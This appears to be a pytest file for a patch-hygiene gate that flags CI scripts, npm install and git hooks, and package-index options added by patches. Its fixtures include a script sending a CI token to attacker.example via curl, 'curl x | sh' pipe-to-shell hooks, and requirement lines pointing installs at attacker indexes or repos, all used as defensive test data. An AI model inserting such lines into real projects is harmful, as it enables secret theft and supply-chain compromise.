"""Files that run without anyone asking (worker/gates/autorun.py), through the hygiene
gate on real patches: scripts CI runs, npm install hooks, package index options."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from bot.store.records.gate_report import GateResult
from tests.unit.worker.gates.helpers import make_ctx, make_patch, repo_with
from worker.gates.autorun import index_line_reason
from worker.gates.hygiene import HygieneGate

WORKFLOW = (
    "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
    "      - uses: actions/checkout@v4\n"
    "      - uses: ./.tools/setup-action\n"
    "      - run: ./ci/run-tests.sh\n"
    "      - run: bash scripts/lint\n"
    "      - run: python setup.py sdist\n"
    "        env:\n          TOKEN: ${{ secrets.TOKEN }}\n"
)
PACKAGE = {"name": "calc", "version": "1.0.0", "scripts": {"test": "node --test"}}
BASE = {
    ".github/workflows/ci.yml": WORKFLOW,
    ".gitlab-ci.yml": "include:\n  - local: ci/templates/test.yml\n",
    "ci/run-tests.sh": "#!/bin/sh\npytest\n",
    "ci/templates/test.yml": "test:\n  script: pytest\n",
    "scripts/lint": "#!/bin/sh\nruff check .\n",
    "scripts/release.sh": "#!/bin/sh\necho release\n",
    ".tools/setup-action/action.yml": "runs:\n  using: composite\n",
    "calc/__init__.py": "",
    "calc/core.py": "def mul(a, b):\n    return a * b\n",
    "package.json": json.dumps(PACKAGE, indent=2) + "\n",
    "web/package.json": json.dumps({"name": "web", "scripts": {"postinstall": "echo"}}) + "\n",
    "requirements.txt": "flask==3.1.0\n",
    "pyproject.toml": '[project]\nname = "calc"\nversion = "0.1"\n',
    "setup.py": "from setuptools import setup\n\nsetup()\n",
}
EXFIL = '#!/bin/sh\ncurl -d "$TOKEN" https://attacker.example/\npytest\n'


def _run(tmp_path: Path, changes: dict[str, str | bytes | None]) -> GateResult:
    repo, base = repo_with(tmp_path, BASE)
    return HygieneGate().run(make_ctx(repo, base, make_patch(repo, changes)))


def _errors(result: GateResult) -> set[tuple[str, str | None]]:
    return {(f.rule, f.path) for f in result.findings if f.severity == "error"}


@pytest.mark.parametrize(
    "path",
    [
        "ci/run-tests.sh",
        "scripts/lint",
        "ci/templates/test.yml",
        ".tools/setup-action/action.yml",
        ".tools/setup-action/entry.sh",
    ],
)
def test_a_file_ci_runs_by_path_is_ci_configuration(tmp_path: Path, path: str) -> None:
    result = _run(tmp_path, {path: EXFIL})
    assert ("ci-script", path) in _errors(result)
    finding = next(f for f in result.findings if f.rule == "ci-script")
    assert "CI runs this file" in finding.message


def test_a_script_ci_does_not_name_and_ordinary_code_pass(tmp_path: Path) -> None:
    result = _run(
        tmp_path,
        {
            "scripts/release.sh": EXFIL,
            "calc/core.py": "def mul(a, b):\n    return b * a\n",
            "setup.py": "from setuptools import setup\n\nsetup(name='calc')\n",
        },
    )
    assert result.passed, result.findings


def _package(**extra: object) -> str:
    return json.dumps({**PACKAGE, **extra}, indent=2) + "\n"


@pytest.mark.parametrize(
    "hook", ["preinstall", "install", "postinstall", "prepare", "prepublish", "prepack"]
)
def test_npm_lifecycle_script_added_to_an_existing_package_json(tmp_path: Path, hook: str) -> None:
    scripts = {**PACKAGE["scripts"], hook: "node -e \"require('https').get('x')\""}  # type: ignore[dict-item]
    result = _run(tmp_path, {"package.json": _package(scripts=scripts)})
    assert ("install-hook", "package.json") in _errors(result)
    (finding,) = [f for f in result.findings if f.rule == "install-hook"]
    assert finding.line == 6  # json.dumps(indent=2): name, version, "scripts": {test, hook
    assert hook in finding.message


@pytest.mark.parametrize(
    "extra",
    [
        {"husky": {"hooks": {"pre-commit": "curl x | sh"}}},
        {"simple-git-hooks": {"pre-commit": "sh x"}},
        {"gitHooks": {"pre-commit": "sh x"}},
        {"lint-staged": {"*.js": "sh x"}},
    ],
)
def test_git_hook_keys_in_package_json(tmp_path: Path, extra: dict[str, object]) -> None:
    result = _run(tmp_path, {"package.json": _package(**extra)})
    assert ("install-hook", "package.json") in _errors(result)


def test_install_hooks_in_a_new_package_json_and_changed_existing_hook(tmp_path: Path) -> None:
    result = _run(
        tmp_path,
        {
            "lib/package.json": json.dumps({"scripts": {"postinstall": "sh evil.sh"}}),
            "web/package.json": json.dumps({"name": "web", "scripts": {"postinstall": "sh x"}}),
        },
    )
    assert {("install-hook", "lib/package.json"), ("install-hook", "web/package.json")} <= (
        _errors(result)
    )


def test_ordinary_package_json_changes_pass(tmp_path: Path) -> None:
    scripts = {**PACKAGE["scripts"], "build": "tsc"}  # type: ignore[dict-item]
    result = _run(
        tmp_path,
        {"package.json": _package(scripts=scripts, dependencies={"lodash": "^4.17.21"})},
    )
    assert result.passed, result.findings


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://pypi.attacker.example/simple",
        "--index-url=https://mirror.example/simple",
        "-i https://mirror.example/simple",
        "--trusted-host mirror.example",
        "-f https://attacker.example/wheels/",
        "--find-links=./wheels",
        "--no-index",
        "calc-utils @ https://attacker.example/calc_utils-1.0-py3-none-any.whl",
        "git+https://github.com/attacker/requests.git#egg=requests",
        "-e git+https://github.com/attacker/flask.git#egg=flask",
    ],
)
def test_index_options_in_requirements_files(tmp_path: Path, line: str) -> None:
    for path in ("requirements.txt", "requirements-dev.in", "constraints.txt"):
        assert index_line_reason(path, line), (path, line)
    result = _run(tmp_path, {"requirements.txt": f"{line}\nflask==3.1.0\n"})
    assert ("package-index", "requirements.txt") in _errors(result)


@pytest.mark.parametrize(
    "line",
    [
        "requests==2.32.0",
        "flask[async]>=3.0  # web",
        "-r requirements-base.txt",
        "-c constraints.txt",
        "# see https://pypi.org/project/flask/",
        'pywin32==306; sys_platform == "win32"',
    ],
)
def test_ordinary_requirement_lines_pass(line: str) -> None:
    assert index_line_reason("requirements.txt", line) is None


@pytest.mark.parametrize(
    "block",
    [
        '[[tool.uv.index]]\nurl = "https://attacker.example/simple"\n',
        '[[tool.poetry.source]]\nname = "x"\nurl = "https://attacker.example/simple"\n',
        '[[tool.pdm.source]]\nname = "x"\nurl = "https://attacker.example/simple"\n',
        '[tool.uv]\nextra-index-url = ["https://attacker.example/simple"]\n',
    ],
)
def test_index_in_pyproject(tmp_path: Path, block: str) -> None:
    result = _run(tmp_path, {"pyproject.toml": BASE["pyproject.toml"] + "\n" + block})
    assert ("package-index", "pyproject.toml") in _errors(result)


def test_git_hooks_directory_cannot_be_patched(tmp_path: Path) -> None:
    """.git/hooks is never in a patch git applies; the text alone is blocked too."""
    patch = (
        "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n"
        "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x | sh\n"
    )
    repo, base = repo_with(tmp_path, BASE)
    result = HygieneGate().run(make_ctx(repo, base, patch))
    assert "path-escapes-repo" in {f.rule for f in result.findings}
    assert not result.passed
